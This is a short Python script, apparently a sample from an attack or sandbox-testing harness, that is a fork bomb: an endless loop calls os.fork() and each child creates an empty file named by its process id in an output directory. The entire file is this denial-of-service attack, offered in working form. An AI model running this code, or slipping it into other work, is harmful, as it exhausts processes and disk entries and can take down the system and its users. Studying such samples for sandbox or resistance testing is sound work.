"""Forks without end."""

import os

from attack import facts, finish

while True:
    try:
        if os.fork() == 0:
            open(f"{facts['out']}/{os.getpid()}", "w").close()
    except OSError:
        pass
